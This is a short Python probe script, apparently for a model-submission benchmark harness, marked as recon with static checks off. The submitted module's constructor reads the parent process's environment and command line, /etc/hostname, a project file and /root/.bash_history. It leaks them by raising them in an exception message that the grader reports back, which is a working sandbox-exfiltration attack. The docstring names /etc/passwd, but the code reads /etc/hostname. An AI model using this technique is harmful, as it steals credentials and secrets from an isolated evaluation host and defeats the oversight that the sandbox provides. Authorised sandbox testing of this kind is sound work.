"""(static checks off, recon) Is reading host files still open, and does the reason text carry
them? The constructor reads the parent's /proc/<ppid>/environ + cmdline, /etc/passwd head and
another path under /work, and raises them."""
from common import *
MODEL = r'''
import os, torch.nn as nn
def grab():
    out = []
    for p in (f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline", "/etc/hostname", "/work/main/pyproject.toml", "/root/.bash_history"):
        try: out.append(p + " => " + open(p, "rb").read()[:300].replace(b"\0", b" ").decode("latin1"))
        except Exception as e: out.append(p + " => " + type(e).__name__)
    return "\n".join(out)
class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        raise RuntimeError("LEAK\n" + grab())
    def forward(self, x):
        return x
'''
run("d1_read_host", MODEL, static=False, note="recon: host reads in the reason")
